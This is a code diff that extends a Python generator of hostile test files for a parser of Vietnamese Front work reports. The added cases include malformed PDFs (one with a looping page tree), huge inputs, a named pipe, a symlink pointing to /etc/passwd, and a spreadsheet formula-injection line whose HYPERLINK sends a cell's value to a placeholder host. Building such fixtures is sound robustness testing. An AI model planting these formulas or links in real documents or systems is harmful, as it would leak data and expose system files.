@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import hashlib
 import io
+import os
 import random
 import struct
 import sys
@@ -408,6 +409,129 @@ def _not_ooxml() -> bytes:
     return out.getvalue()
 
 
+def placed_text_pdf(lines: tuple[str, ...], top: int) -> bytes:
+    """A one-page text PDF whose lines start `top` points above the bottom of an A4 page."""
+    shown = b" ".join(b"(%s) Tj 0 -14 Td" % line.encode("latin-1") for line in lines)
+    return pdf_file([
+        *pdf_page(b"<< /Font << /F1 4 0 R >> >>"),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        pdf_stream(b"BT /F1 11 Tf 72 %d Td " % top + shown + b" ET"),
+    ])
+
+
+def text_pages_pdf(pages: int) -> bytes:
+    """A text PDF of `pages` pages, each with a heading and twenty report lines (a compiled report)."""
+    font = 3 + 2 * pages
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
+               b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
+                   b" ".join(b"%d 0 R" % (3 + 2 * n) for n in range(pages)), pages)]
+    for n in range(pages):
+        lines = [f"Trang {n + 1}: Bao cao ket qua cong tac Mat tran"] + [
+            f"Xa so {n * 20 + k}: van dong {(n * 20 + k) * 1000:,} dong, ho tro {k + 3} ho ngheo."
+            for k in range(20)]
+        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
+                       b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (font, 4 + 2 * n))
+        shown = b" ".join(b"(%s) Tj 0 -24 Td" % line.encode("latin-1") for line in lines)
+        objects.append(pdf_stream(b"BT /F1 11 Tf 72 740 Td " + shown + b" ET"))
+    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
+    return pdf_file(objects)
+
+
+def self_referencing_pdf() -> bytes:
+    """A page tree whose Pages node lists itself among its kids: a parser that follows it loops."""
+    return pdf_file([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
+        b"/Contents 5 0 R >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        pdf_stream(text_content(PDF_LINES)),
+    ])
+
+
+def numbering_docx(start: str) -> bytes:
+    """A Word list whose numbering level says w:start="{start}" (Word itself ignores a bad value)."""
+    word = docx.Document()
+    for text in REPORT.splitlines()[:3]:
+        word.add_paragraph(text, style="List Number")
+    out = io.BytesIO()
+    word.save(out)
+    package = out.getvalue()
+    with zipfile.ZipFile(io.BytesIO(package)) as source:
+        numbering = source.read("word/numbering.xml").decode()
+    import re as _re
+
+    numbering = _re.sub(r'<w:start w:val="\d+"/>', f'<w:start w:val="{start}"/>', numbering)
+    return repack(package, {"word/numbering.xml": numbering.encode()})
+
+
+ALT_CHUNK_HTML = (
+    "<html><head><meta charset='utf-8'><title>Phụ lục</title></head><body>"
+    "<p>Kết quả vận động Quỹ &quot;Vì người nghèo&quot; năm 2024 được 512.000.000 đồng.</p>"
+    "<table><tr><th>Xã</th><th>Số hộ được hỗ trợ (hộ)</th></tr>"
+    "<tr><td>Ea Pô</td><td>17</td></tr><tr><td>Nam Dong</td><td>23</td></tr></table>"
+    "</body></html>"
+)
+
+
+def altchunk_docx() -> bytes:
+    """A .docx whose body imports an HTML part with w:altChunk, as web forms write reports."""
+    package = docx_bytes(["BÁO CÁO", "Kết quả công tác Mặt trận năm 2024"])
+    with zipfile.ZipFile(io.BytesIO(package)) as source:
+        body = source.read("word/document.xml").decode()
+        rels = source.read("word/_rels/document.xml.rels").decode()
+        types = source.read("[Content_Types].xml").decode()
+    body = body.replace("</w:body>", "").replace("<w:sectPr", '<w:altChunk r:id="rIdChunk1"/><w:sectPr', 1)
+    body = body.replace("</w:document>", "</w:body></w:document>") if "</w:body>" not in body else body
+    rels = rels.replace("</Relationships>", '<Relationship Id="rIdChunk1" Type="http://schemas.openxmlformats.org/'
+                        'officeDocument/2006/relationships/aFChunk" Target="phuluc.htm"/></Relationships>')
+    types = types.replace("</Types>", '<Default Extension="htm" ContentType="text/html"/></Types>')
+    replaced = {"[Content_Types].xml": types.encode(), "word/document.xml": body.encode(),
+                "word/_rels/document.xml.rels": rels.encode()}
+    return docx_plus_parts(repack(package, replaced), {"word/phuluc.htm": ALT_CHUNK_HTML.encode()})
+
+
+def docx_plus_parts(package: bytes, parts: dict[str, bytes]) -> bytes:
+    out = io.BytesIO(package)
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, compress_type=zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+def short_paragraphs_docx(count: int) -> bytes:
+    """A .docx of `count` short paragraphs, written as XML directly (python-docx would take minutes)."""
+    body = "".join(paragraph_xml(f"Mục {i % 97}") for i in range(count))
+    return repack(docx_bytes(["x"]), {"word/document.xml": document_xml(body)})
+
+
+HUGE_NUMBER = "9" * 400
+FORMULA_REPORT = (
+    "BÁO CÁO\n"
+    '=HYPERLINK("http://vi-du.invalid/?q="&A1,"Bấm vào đây") hỗ trợ 25 hộ nghèo.\n'
+    "- Vận động Quỹ được 361.432.000 đồng.\n"
+    "+ Trao 120 suất quà.\n"
+    "@SUM(1+1) hộ đạt 85% kế hoạch.\n"
+)
+
+
+# ---- special entries: not files with bytes, but what a folder may also hold ----------------------
+
+
+def make_fifo(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def make_link_out(path: Path) -> None:
+    path.symlink_to("/etc/passwd")
+
+
+SPECIAL: dict[str, Callable[[Path], None]] = {
+    "fifo_named_pipe.txt": make_fifo,  # open() on it blocks until someone writes
+    "link_to_etc_passwd.txt": make_link_out,  # a link out of the folder being loaded
+}
+
+
 # ---- the corpus: file name -> how to build it ----------------------------------------------------
 
 CASES: dict[str, Callable[[], bytes]] = {
@@ -448,6 +572,20 @@ CASES: dict[str, Callable[[], bytes]] = {
     "cp1258.txt": lambda: to_cp1258(REPORT),
     VIETNAMESE_NAME: lambda: REPORT.encode(),
     "no_figures.txt": lambda: NO_FIGURES.encode(),
+    "text_in_top_band.pdf": lambda: placed_text_pdf(PDF_LINES, 820),  # was E012: band check came first
+    "text_in_bottom_band.pdf": lambda: placed_text_pdf(PDF_LINES, 60),
+    "digits_50000.txt": lambda: b"1" * 50_000,
+    "digits_4_9mb.txt": lambda: b"7" * 4_900_000,
+    "percent_100kb.txt": lambda: b"5% " * 34_000,
+    "short_paragraphs_200000.docx": lambda: short_paragraphs_docx(200_000),
+    "number_400_digits.txt": lambda: f"Đã vận động được {HUGE_NUMBER} đồng và hỗ trợ 25 hộ.\n".encode(),
+    "formula_text.txt": lambda: FORMULA_REPORT.encode(),
+    "text_pages_500.pdf": lambda: text_pages_pdf(500),
+    "self_referencing.pdf": self_referencing_pdf,
+    "zero_width_in_number.txt": lambda: "Hỗ trợ 1\u200b500 hộ nghèo và 2\u200c361 suất quà.\n".encode(),
+    "nul_byte.txt": lambda: REPORT.replace("25 hộ", "25 hộ\x00").encode(),
+    "numbering_start_abc.docx": lambda: numbering_docx("abc"),
+    "altchunk_html.docx": altchunk_docx,
 }
 
 
@@ -458,6 +596,11 @@ def write_corpus(directory: Path) -> dict[str, Path]:
     for name, build in CASES.items():
         path = directory / name
         path.write_bytes(build())
+        written[name] = path
+    for name, make in SPECIAL.items():
+        path = directory / name
+        if not path.exists() and not path.is_symlink():
+            make(path)
         written[name] = path
     return written
 
